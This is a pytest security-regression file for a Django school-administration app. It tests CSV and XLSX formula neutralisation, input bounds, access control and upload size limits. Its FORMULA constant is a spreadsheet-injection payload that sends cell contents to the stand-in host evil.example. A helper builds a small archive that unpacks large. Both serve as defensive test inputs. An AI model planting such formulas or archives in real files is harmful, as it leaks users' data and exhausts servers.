"""Issue 15 §2: every export inert, every input bounded (each test here failed before the change)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import ApiToken
from core.exports import FORMULA_START, csv_cell, csv_text, xlsx_row
from tests.courses.xlsx import upload, workbook_bytes

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


def _book(content: bytes):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(content))


def _formula_cells(book) -> list[str]:
    return [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _bearer(user) -> dict[str, str]:
    _token, raw = ApiToken.issue(user=user)
    return {"Authorization": f"Bearer {raw}"}


# --- exports ----------------------------------------------------------------------------------------


def test_the_helper_writes_text_as_text_in_both_kinds_of_sheet_and_in_csv():
    from openpyxl import Workbook

    for start in FORMULA_START:
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(-3) == -3 and csv_cell("3-1") == "3-1" and csv_cell(None) == ""
    rows = list(csv.reader(io.StringIO(csv_text([["a", FORMULA]]).lstrip("\ufeff"))))
    assert rows == [["a", "'" + FORMULA]]
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("s") if write_only else book.active
        xlsx_row(sheet, [FORMULA, "+1", "@SUM(A1)", 7, "bell\x07"])
        buffer = io.BytesIO()
        book.save(buffer)
        read = _book(buffer.getvalue()).worksheets[0]
        assert [c.value for c in read[1]] == [FORMULA, "+1", "@SUM(A1)", 7, "bell"]
        assert _formula_cells(_book(buffer.getvalue())) == []


def test_roster_export_writes_a_pupils_name_as_text(world, login):
    child = world.children_a[0]
    child.name = FORMULA
    child.save(update_fields=["name"])
    client = login(world.users.coordinator_a)
    response = client.get(reverse("enrollment:roster_export", args=[world.school_a.pk, world.section_a.pk]))
    assert response.status_code == 200
    book = _book(response.content)
    assert _formula_cells(book) == []
    assert FORMULA in [c.value for row in book.active.iter_rows() for c in row]


def test_timetable_export_writes_a_course_title_as_text(world):
    from scheduling.exports import timetable_xlsx
    from tests.scheduling.factories import add_timetable_data, published_for_a

    tt = add_timetable_data(world)
    course = world.section_a.course
    course.title = FORMULA
    course.save(update_fields=["title"])
    published = published_for_a(world, tt)
    for by in ("school", "class", "teacher"):
        book = _book(timetable_xlsx(timetable=published, by=by))
        assert _formula_cells(book) == [], by
    book = _book(timetable_xlsx(timetable=published))
    assert FORMULA in [c.value for row in book["明细"].iter_rows() for c in row]


def test_participation_workbook_writes_the_school_name_as_text(world, login):
    world.school_a.name = "=1+2"
    world.school_a.save(update_fields=["name"])
    client = login(world.users.coordinator_a)
    response = client.get(reverse("participation:school_export", args=[world.school_a.pk]))
    assert response.status_code == 200
    book = _book(response.content)
    assert _formula_cells(book) == []
    assert book.worksheets[0]["A1"].value == "=1+2"


def test_fee_table_writes_text_as_text():
    from participation.fees.exports import table_xlsx

    book = _book(table_xlsx(title="-2+3", header=["a", "b"], rows=[[FORMULA, 5], ["@x", True]]))
    assert _formula_cells(book) == []
    assert [c.value for c in book.active[3]] == [FORMULA, 5]


def test_regulator_csv_writes_a_course_title_as_text(world):
    course = world.section_a.course
    course.title = FORMULA
    course.save(update_fields=["title"])
    response = Client().get("/api/v1/regulator/enrollments.csv", headers=_bearer(world.users.bureau))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(FORMULA_START) for cell in cells)


# --- inputs --------------------------------------------------------------------------------------------


def test_a_lone_surrogate_login_name_is_refused_not_a_server_error(world):
    client = Client(raise_request_exception=False)
    body = '{"username": "\\ud800", "password": "x"}'
    response = client.post("/api/v1/auth/token", body, content_type="application/json")
    assert response.status_code == 422 and response.json()["code"] == "validation_error"


def test_a_solve_seed_beyond_the_column_is_422(world):
    client = Client(raise_request_exception=False)
    for seed in (2**63, 2**31, -1):
        response = client.post(
            f"/api/v1/schools/{world.school_a.pk}/solve-runs",
            json.dumps({"seed": seed, "time_limit": 1}),
            content_type="application/json",
            headers=_bearer(world.users.coordinator_a),
        )
        assert response.status_code == 422, (seed, response.content[:200])


def test_nul_and_overlong_text_in_a_partner_course_are_refused_and_nothing_stored(world):
    from partners.models import PartnerCourse

    client = Client(raise_request_exception=False)
    base = {"title": "面点", "description": "d", "kind": "labour", "grades": [4], "group_size": 10}
    before = PartnerCourse.objects.count()
    for change in ({"title": "a\x00b"}, {"description": "x" * 100_000}, {"materials": "\x00"}, {"grades": [2**63]}):
        response = client.post(
            "/api/v1/partner-courses",
            json.dumps({**base, **change}),
            content_type="application/json",
            headers=_bearer(world.users.partner),
        )
        assert response.status_code == 422, (change.keys(), response.status_code)
    assert PartnerCourse.objects.count() == before


def test_cancelling_another_familys_leave_report_is_404_and_changes_nothing(world, login):
    from participation.models import LeaveReport

    theirs = LeaveReport.objects.create(student=world.children_b[0], date=dt.date.today() + dt.timedelta(days=1))
    client = login(world.users.parent_1)
    own_child = world.children_a[0].pk
    response = client.post(reverse("participation:leave_cancel", args=[own_child, theirs.pk]))
    assert response.status_code == 404
    assert LeaveReport.objects.filter(pk=theirs.pk).exists()


# --- uploads --------------------------------------------------------------------------------------------


def _padded(rows, pad: int) -> bytes:
    """A valid workbook plus a member of `pad` zero bytes: tiny compressed, large unpacked."""
    buffer = io.BytesIO(workbook_bytes(rows))
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/pad.bin", b"\0" * pad)
    return buffer.getvalue()


def test_a_small_upload_that_unpacks_large_is_refused_before_parsing(world):
    from courses import imports
    from participation.fees import payments

    data = _padded([["名称", "容纳人数", "设施"], ["教室", 30, None]], 13 * 1024 * 1024)
    assert len(data) < 100 * 1024
    result = imports.rooms_import(school=world.school_a, upload=upload(data=data))
    assert [p.code for p in result.problems] == ["too_large"]
    report = payments.payments_import(school=world.school_a, upload=upload(data=data), by=None)
    assert report.problems and not report.batch


def test_sheets_are_streamed_and_reading_stops_at_the_row_limit(world, monkeypatch):
    from openpyxl.worksheet import _reader

    from core import sheets
    from courses import imports

    parsed = []
    original = _reader.WorkSheetParser.parse_row

    def counting(self, element):
        parsed.append(1)
        return original(self, element)

    monkeypatch.setattr(_reader.WorkSheetParser, "parse_row", counting)
    monkeypatch.setattr(sheets, "MAX_ROWS", 50)
    rows = [["名称", "容纳人数", "设施"]] + [[f"教室{i}", 30, None] for i in range(2000)]
    result = imports.rooms_import(school=world.school_a, upload=upload(rows))
    assert [p.code for p in result.problems] == ["too_many_rows"]
    assert len(parsed) <= 60  # the header and one row past the limit, not the 2,000 rows
